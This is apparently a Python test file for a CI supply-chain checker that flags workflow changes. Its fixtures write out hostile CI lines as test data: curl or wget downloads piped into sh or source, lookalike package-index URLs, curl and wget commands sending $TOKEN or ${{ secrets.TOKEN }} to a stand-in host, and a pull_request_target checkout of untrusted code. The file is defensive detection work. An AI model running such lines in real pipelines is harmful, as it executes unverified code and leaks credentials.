"""Lines of CI that run what they fetched, install from elsewhere or let secrets out."""

import pytest
from tree_evidence import tree_evidence

from gatekeeper.checks.supply_chain import check
from gatekeeper.checks.supply_chain.ci_lines import changed_lines

PATH = ".github/workflows/ci.yml"
CI = "on:\n  pull_request:\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n      - run: pytest\n"


def told(before, after):
    lists = {"pyproject.toml": '[project]\nname = "shop"\ndependencies = ["more"]\n'}
    return [(f.code, f.effect.value) for f in check(tree_evidence({PATH: before, **lists}, {PATH: after}))]


def step(line):
    return CI + "      - run: |\n" + "".join(f"          {row}\n" for row in line.split("\n"))


@pytest.mark.parametrize(
    ("line", "code", "effect"),
    [
        ("curl -o x https://e.example/x\nsh x", "DOWNLOAD_EXECUTED", "asks"),
        ("curl -o x https://e.example/x && sh x", "DOWNLOAD_EXECUTED", "asks"),
        ("wget -O /tmp/tool https://e.example/x\nchmod +x /tmp/tool\n/tmp/tool --all", "DOWNLOAD_EXECUTED", "asks"),
        ("curl https://e.example/x > get.py\npython get.py", "DOWNLOAD_EXECUTED", "asks"),
        ("source <(curl https://e.example/x)", "DOWNLOAD_EXECUTED", "blocks"),
        ("pip install -i https://e.example/simple more", "DEPENDENCY_INDEX_ADDED", "asks"),
        ("uv pip install --extra-index-url=https://e.example/simple more", "DEPENDENCY_INDEX_ADDED", "asks"),
        ("PIP_INDEX_URL=https://e.example/simple pip install more", "DEPENDENCY_INDEX_ADDED", "asks"),
        ("pip install -i https://pypi" + ".org/simple.e.example more", "DEPENDENCY_INDEX_ADDED", "asks"),
        ("curl -d ${{ secrets.TOKEN }} https://e.example", "CI_SECRET_REACHED", "asks"),
    ],
)
def test_a_line_that_fetches_or_sends_is_seen_once(line, code, effect):
    assert told(CI, step(line)) == [(code, effect)]
    assert told(step(line), step(line) + "# more\n") == []


@pytest.mark.parametrize(
    "line",
    [
        "curl -o data.json https://e.example/data.json\npytest --data data.json",
        "curl -o tool https://e.example/tool\necho 'abc  tool' | sha256sum -c -\n./tool",
        "pip install -r requirements.txt",
        "pip install -e .",
        "pip install shop==$TAG --index-url https://pypi" + ".org/simple/",
        "pip install --find-links dist shop",
        "curl https://e.example/health",
    ],
)
def test_a_line_that_only_fetches_passes(line):
    assert told(CI, step(line)) == []


def test_code_of_anybody_is_not_checked_out_beside_secrets():
    before = CI.replace("pull_request:", "pull_request_target:")
    ref = "checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}"
    assert told(before, before.replace("checkout@v4", ref)) == [("CI_SECRET_REACHED", "asks")]
    assert told(CI, CI.replace("checkout@v4", ref)) == []


@pytest.mark.parametrize("word", ["curl ", "pip ", "curl -o x ", "ref: ", "curl -o x y;"])
def test_a_line_without_end_is_read_in_bounded_time(word):
    assert list(changed_lines(PATH, CI, CI + "# " + word * 20_000 + "\n")) == []


def _with_token(line):
    return CI + f"      - env:\n          TOKEN: ${{{{ secrets.UPLOAD }}}}\n        run: {line}\n"


@pytest.mark.parametrize(
    "line",
    [
        'curl -s -d "t=$TOKEN" https://e.example/ci',
        "curl --data-binary ${TOKEN} https://e.example/ci",
        "wget https://e.example/?t=$TOKEN",
        "echo $TOKEN | curl -T - https://e.example",
    ],
)
def test_a_secret_of_the_surroundings_is_not_sent_away(line):
    assert told(CI, _with_token(line)) == [("CI_SECRET_REACHED", "asks")]
    assert told(_with_token(line), _with_token(line) + "        # more\n") == []


@pytest.mark.parametrize(
    "line",
    [
        'curl -H "Authorization: Bearer $TOKEN" -d @report.json https://api.e.example/reports',
        "curl -u ci:$TOKEN https://e.example/private.json",
        "twine upload dist/* -p $TOKEN",
        "curl -d x=$TOKENS https://e.example",
    ],
)
def test_a_secret_that_identifies_the_sender_passes(line):
    assert told(CI, _with_token(line)) == []
